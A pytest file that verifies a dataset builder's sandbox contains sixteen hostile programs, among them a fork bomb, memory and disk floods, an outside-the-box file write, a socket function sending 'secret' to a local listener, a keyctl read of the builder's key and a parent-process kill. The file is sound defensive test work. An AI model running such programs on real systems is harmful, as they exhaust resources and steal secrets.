"""A build whose verified_python source holds every attack of the threat model (docs/sandbox.md).

One ``mixer build`` (a module fixture) verifies two honest problems around sixteen hostile ones: the build
exits 0, every attack is dropped under the reason the manifest counts for it, only the honest problems
become documents, and nothing outside the sandbox changed: no file, process, SysV object or key of the
builder's. The outcomes asserted are those of full isolation (network, PID, mount and IPC namespaces, a
private root, the seccomp filter); tests/test_sandbox.py covers the fallbacks.

The policy would refuse most of these programs as solutions before they run (tests/test_verdict_integrity.py
shows that), so each attack sits in the *tests*, which only the sandbox contains: model-written tests
are untrusted too.
"""

from __future__ import annotations

import os
import re
import socket
import sys
import tempfile
import textwrap
from collections import Counter
from pathlib import Path
from types import SimpleNamespace

import pytest
from click.testing import CliRunner
from conftest import processes_with, stdlib_texts, was_connected, write_jsonl
from test_sandbox import KEYCTL, read_key, session_key, sysv_objects

from mixer.cli import main
from mixer.mixing.corpus import SourceCorpus
from mixer.readers.verified_python import render
from mixer.sandbox.run import Sandbox
from mixer.shards.manifest import read_manifest
from mixer.shards.tokenizer import Encoder, load_tokenizer_info, train_bpe

TOKEN = f"mixer-sandbox-build-{os.getpid()}"  # in the fork bomb's children's command lines, to find them
FULL_ISOLATION = {
    "network-namespace", "pid-namespace", "mount-namespace", "ipc-namespace", "private-root", "seccomp",
    "session-keyring",
}  # fmt: skip
ISOLATION = set(Sandbox(workers=1).probe().isolation)
# The containment asserted here is full isolation's; without namespaces (documented in docs/sandbox.md)
# tests/test_sandbox.py checks what the fallback does and does not stop.
pytestmark = pytest.mark.skipif(
    not FULL_ISOLATION <= ISOLATION,
    reason=f"needs {sorted(FULL_ISOLATION)}; this machine gives {sorted(ISOLATION)}",
)
HONEST = {
    "add": ("def add(a, b):\n    return a + b\n", "assert add(2, 3) == 5\nassert add(-1, 1) == 0\n"),
    "words": (
        "def reverse_words(s):\n    return ' '.join(reversed(s.split()))\n",
        "assert reverse_words('a b  c') == 'c b a'\n",
    ),
}


def code(source: str) -> str:
    return textwrap.dedent(source).lstrip()


def attacks(sentinel: Path, port: int, key: int) -> dict[str, tuple[str, str]]:
    """name -> (solution, tests); each solution would harm the machine or the build if it were not boxed."""
    elsewhere = [f"/tmp/{TOKEN}-escaped.txt", f"{os.path.realpath(sys.base_prefix)}/{TOKEN}"]
    return {
        "infinite_loop": ("def spin():\n    while True:\n        pass\n", "spin()\n"),
        "fork_bomb": (
            code(f"""
                import os, sys

                def bomb():
                    while True:
                        if os.fork() == 0:  # every child lingers, under a command line the test can find
                            try:
                                args = ["-S", "-c", "import time; time.sleep(60)", {TOKEN!r}]
                                os.execv(sys.executable, [sys.executable, *args])
                            finally:
                                os._exit(0)
                """),
            "bomb()\n",
        ),
        "memory_bomb": (
            "def grow():\n    chunks = []\n    while True:\n        chunks.append(bytearray(16 << 20))\n",
            "grow()\n",
        ),
        "fill_disk": (
            code("""
                def fill():
                    n = 0
                    while True:  # files under the file-size limit, until the folder is full
                        with open(f"part{n}", "wb") as f:
                            f.write(b"x" * (512 << 10))
                        n += 1
                """),
            "fill()\n",
        ),
        "write_outside": (
            code(f"""
                def escape():
                    for path in {elsewhere!r}:  # its own /tmp; the read-only interpreter prefix
                        try:
                            with open(path, "w") as f:
                                f.write("escaped")
                        except OSError:
                            pass
                    with open({str(sentinel)!r}, "w") as f:
                        f.write("escaped")
                """),
            "escape()\n",
        ),
        "network": (
            code(f"""
                import socket

                def exfiltrate():
                    with socket.create_connection(("127.0.0.1", {port}), timeout=1) as s:
                        s.sendall(b"secret")
                    return True
                """),
            "assert exfiltrate()\n",
        ),
        "kill_parent": (
            code("""
                import os, signal

                def answer():
                    os.kill(os.getppid(), signal.SIGKILL)  # take its supervisor down, then lie
                    return 41
                """),
            "assert answer() == 42, 'answer()'\n",
        ),
        "ignores_sigterm": (
            code("""
                import os, signal, time

                def stubborn():
                    signal.signal(signal.SIGTERM, signal.SIG_IGN)
                    os.kill(os.getpid(), signal.SIGTERM)
                    time.sleep(60)
                """),
            "stubborn()\n",
        ),
        "stdout_flood": (
            "import sys\n\ndef answer():\n    sys.stdout.write('x' * (64 << 20))\n    return 41\n",
            "assert answer() == 42, 'answer()'\n",
        ),
        "deep_recursion": ("def f(n):\n    return f(n + 1)\n", "f(0)\n"),
        "segfault": ("import ctypes\n\ndef peek():\n    return ctypes.string_at(0)\n", "peek()\n"),
        "memfd": (
            "import os\n\ndef hoard():\n    os.ftruncate(os.memfd_create('x'), 512 << 20)\n",
            "hoard()\n",
        ),
        "sysv_ipc": (
            code("""
                import ctypes

                def share():
                    libc = ctypes.CDLL(None, use_errno=True)
                    if libc.shmget(0, 64 << 20, 0o1666) < 0:
                        raise OSError(ctypes.get_errno(), "shmget")
                """),
            "share()\n",
        ),
        "keyring": (
            code(f"""
                import ctypes

                def steal():
                    libc = ctypes.CDLL(None, use_errno=True)
                    buf = ctypes.create_string_buffer(4096)
                    if libc.syscall({KEYCTL}, 11, {key}, buf, 4096) < 0:  # KEYCTL_READ the builder's key
                        raise OSError(ctypes.get_errno(), "keyctl")
                """),
            "steal()\n",
        ),
        "host_config": ("def peek():\n    return open('/proc/1/cmdline', 'rb').read()\n", "peek()\n"),
        "inode_flood": (
            "def flood():\n    n = 0\n    while True:\n        open(f'f{n}', 'w').close()\n        n += 1\n",
            "flood()\n",
        ),
    }


IN = " (in the tests)"


def expected(sentinel: Path) -> dict[str, tuple[str, str]]:
    """name -> (reason, detail) under full isolation; see the table in docs/sandbox.md."""
    return {
        # CPU time is not the limit here (cpu_seconds is above timeout): the wall clock stops both
        "infinite_loop": ("timeout", "exceeded its wall-clock time"),
        "ignores_sigterm": ("timeout", "exceeded its wall-clock time"),
        # RLIMIT_NPROC in its own user namespace: fork() fails with EAGAIN
        "fork_bomb": ("resource_limit", f"BlockingIOError: [Errno 11] Resource temporarily unavailable{IN}"),
        "memory_bomb": ("memory", f"MemoryError{IN}"),  # RLIMIT_AS
        "fill_disk": ("resource_limit", f"OSError: [Errno 28] No space left on device{IN}"),  # its tmpfs
        # the host's folders do not exist in its private root; the write fails and so does the candidate
        "write_outside": (
            "failed_test",
            f"FileNotFoundError: [Errno 2] No such file or directory: '{sentinel}'{IN}",
        ),
        "network": ("failed_test", f"OSError: [Errno 101] Network is unreachable{IN}"),  # loopback is down
        # as root, its parent (init) belongs to root and it to uid 65534; unprivileged, init is PID 1 of
        # the namespace, which ignores a SIGKILL from inside it, and the candidate returns its wrong answer
        "kill_parent": (
            "failed_test",
            f"PermissionError: [Errno 1] Operation not permitted{IN}"
            if os.geteuid() == 0
            else "AssertionError: tests.py line 7: answer()",
        ),
        # the flood is drained and cut; the harness's verdict at the end of stderr still decides
        "stdout_flood": ("failed_test", "AssertionError: tests.py line 7: answer()"),
        "deep_recursion": ("crash", f"RecursionError: maximum recursion depth exceeded{IN}"),
        "segfault": ("crash", "SIGSEGV"),
        # the seccomp filter: memory the address-space limit would not count, the host's SysV objects and
        # the builder's keys are out of reach
        "memfd": ("failed_test", f"PermissionError: [Errno 1] Operation not permitted{IN}"),
        "sysv_ipc": ("failed_test", f"PermissionError: [Errno 1] shmget{IN}"),
        "keyring": ("failed_test", f"PermissionError: [Errno 1] keyctl{IN}"),
        # init unmounted /proc: nothing of the builder's configuration is there to read
        "host_config": (
            "failed_test",
            f"FileNotFoundError: [Errno 2] No such file or directory: '/proc/1/cmdline'{IN}",
        ),
        # the tmpfs has max_files inodes: its folder and main.py take two
        "inode_flood": ("resource_limit", f"OSError: [Errno 28] No space left on device: 'f62'{IN}"),
    }


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    root = tmp_path_factory.mktemp("sandbox_build")
    sentinel = root / "outside" / "sentinel.txt"
    sentinel.parent.mkdir()
    sentinel.write_text("untouched")
    sentinel_stat = sentinel.stat()
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()

    sysv_before = sysv_objects()
    key = session_key(b"the builder's secret")
    hostile = attacks(sentinel, server.getsockname()[1], key)
    # an honest problem first and last: the build goes on after every attack
    names = ["add", *hostile, "words"]
    programs = {**HONEST, **{name: ("x = 0\n", f"{sol}\n{tests}") for name, (sol, tests) in hostile.items()}}
    problems = [
        {"id": name, "prompt": f"Problem {name}.", "solution": programs[name][0], "tests": programs[name][1]}
        for name in names
    ]
    data = write_jsonl(root / "data" / "problems.jsonl", problems)
    tokenizer = train_bpe(stdlib_texts(20), vocab_size=300, out_path=root / "tok" / "tokenizer.json")
    recipe = root / "recipe.yaml"
    recipe.write_text(f"""\
name: sandboxed
tokenizer: {tokenizer}
sources:
  synthetic:
    type: verified_python
    paths: ["{data}"]
    forbidden_imports: []  # let every attack run: the sandbox, not the import list, must contain it
    timeout: 3
    cpu_seconds: 10
    memory_mb: 256
    file_size_mb: 1
    disk_mb: 4
    max_files: 64
    max_processes: 16
    max_output_bytes: 4096
    workers: 2
""")
    scratch = root / "scratch"  # the sandboxes' private folders go here, so that leftovers can be seen
    scratch.mkdir()
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("TMPDIR", str(scratch))
        mp.setattr(tempfile, "tempdir", str(scratch))
        result = CliRunner().invoke(main, ["build", str(recipe), "-o", str(root / "out"), "--tasks", "1"])
    connected = was_connected(server)
    return SimpleNamespace(
        result=result,
        out=root / "out",
        data=data,
        names=names,
        sentinel=sentinel,
        sentinel_stat=sentinel_stat,
        connected=connected,
        left_processes=processes_with(TOKEN),
        left_dirs=sorted(p.name for p in scratch.iterdir() if p.name.startswith("mixer-sandbox-")),
        sysv_before=sysv_before,
        sysv_after=sysv_objects(),
        key_after=read_key(key),
    )


def test_the_build_succeeds(built):
    assert built.result.exit_code == 0, built.result.output


def test_every_attack_is_dropped_with_its_reason(built):
    source = read_manifest(built.out)["sources"]["synthetic"]
    want = expected(built.sentinel)
    assert source["skipped"] == dict(Counter(reason for reason, _ in want.values()))
    example = re.compile(rf"^{re.escape(str(built.data))}:(\d+) \((.*)\)$")
    got = {}
    for reason, examples in source["skip_examples"].items():
        for text in examples:
            line, detail = example.match(text).groups()
            got[built.names[int(line) - 1]] = (reason, detail)
    assert got == want


def test_only_the_honest_problems_become_documents(built):
    manifest = read_manifest(built.out)
    source = manifest["sources"]["synthetic"]
    assert (source["records"], source["documents"]) == (18, 2)
    tok = manifest["tokenizer"]
    encoder = Encoder(load_tokenizer_info(built.out / tok["path"], eos_token=tok["eos_token"], backend="hf"))
    corpus = SourceCorpus(built.out, "synthetic")
    texts = [encoder.decode([int(t) for t in corpus.document(i)]) for i in range(len(corpus))]
    assert texts == [
        render(f"Problem {name}.", HONEST[name][0]) + "<|endoftext|>" for name in ("add", "words")
    ]


def test_nothing_outside_the_sandbox_changed(built):
    assert built.sentinel.read_text() == "untouched"
    assert built.sentinel.stat().st_mtime_ns == built.sentinel_stat.st_mtime_ns
    assert [p.name for p in built.sentinel.parent.iterdir()] == ["sentinel.txt"]
    assert not Path(f"/tmp/{TOKEN}-escaped.txt").exists()  # it wrote its own /tmp, not the host's
    assert not Path(f"{os.path.realpath(sys.base_prefix)}/{TOKEN}").exists()
    assert not built.connected  # nothing reached the listening port
    assert built.left_processes == []  # the fork bomb's children went with the sandbox
    assert built.left_dirs == []  # every private folder was removed
    assert built.sysv_after == built.sysv_before  # no shared memory, queue or semaphore left
    assert built.key_after == b"the builder's secret"  # the builder's key, unread and in place
